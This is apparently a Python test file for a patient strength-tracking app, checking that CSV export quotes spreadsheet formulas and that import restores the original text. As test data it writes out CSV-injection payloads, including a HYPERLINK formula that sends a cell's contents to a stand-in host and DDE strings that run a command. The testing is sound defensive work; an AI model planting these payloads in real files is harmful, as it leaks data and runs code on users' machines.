"""CSV export never writes a formula a spreadsheet would run, and imports back unchanged
(issue 16, item 8; OWASP "CSV Injection"). The texts come from every source that reaches an
export: the patient's names, a reject reason, and the model and serial the gauge itself sends."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

from hiptrack.domain.patient_rules import PatientFields
from hiptrack.storage.csv_cells import FORMULA_TRIGGERS, protect, unprotect
from hiptrack.storage.database import Database
from hiptrack.storage.migrate import prepare_database
from hiptrack.storage.patients import create_patient, find_by_chart
from hiptrack.storage.results_export import export_results, rejected_path_for
from hiptrack.storage.results_import import import_results
from hiptrack.storage.visits import DeviceProvenance, ensure_test, save_trial, start_visit

LAST = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FIRST = "+cmd|' /C calc'!A0"
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
MODEL = "-2+3+cmd|' /C calc'!A0"
SERIAL = "\t=1+1"
TODAY = dt.date(2026, 11, 23)


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _record_hostile_texts(db: Database) -> int:
    with db.session() as s:
        pid = create_patient(s, PatientFields("HT-9", LAST, FIRST, dt.date(1980, 3, 4), "female", 1.7, None, None, ""),
                             today=TODAY)
        visit = start_visit(s, pid, TODAY, None, "standard", body_mass_kg=70.0)
        test = ensure_test(s, visit, muscle="gluteus_medius", side="left", position="hip_abd_sidelying_short", method="make",
                           lever_arm_m=0.4, device=DeviceProvenance("mark10", MODEL, SERIAL, "1.0"))
        save_trial(s, test, peak_force_n=180.0, entry="stream")
        save_trial(s, test, peak_force_n=20.0, entry="stream", accepted=False, reject_reason=REASON)
    return pid


def test_export_quotes_formulas_and_import_restores_the_texts(db: Database, tmp_path: Path, sqlite_url: str) -> None:
    pid = _record_hostile_texts(db)
    out = tmp_path / "export.csv"
    with db.session() as s:
        export_results(s, pid, out)
    for path in (out, rejected_path_for(out)):
        cells = _cells(path)
        runnable = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]
        assert runnable == [], f"{path.name} holds cells a spreadsheet would run"
        for text in (LAST, FIRST):
            assert "'" + text in cells
    assert "'" + MODEL in _cells(out) and "'" + SERIAL in _cells(out)
    assert "'" + REASON in _cells(rejected_path_for(out))

    other = Database(sqlite_url)
    prepare_database(other)
    with other.session() as s:
        import_results(s, out, today=TODAY)
    with other.session() as s:
        patient = find_by_chart(s, "HT-9")
        assert patient is not None and (patient.last_name, patient.first_name) == (LAST, FIRST)
    other.dispose()


def test_protect_is_reversible_and_leaves_numbers_alone() -> None:
    for text in (LAST, FIRST, REASON, MODEL, SERIAL, "\rx", "'=x", "''+x", "plain", "O'Brien", ""):
        assert unprotect(protect(text)) == text
    for number in ("-12.5", "+3", "-0.0", "1e-5"):
        assert protect(number) == number
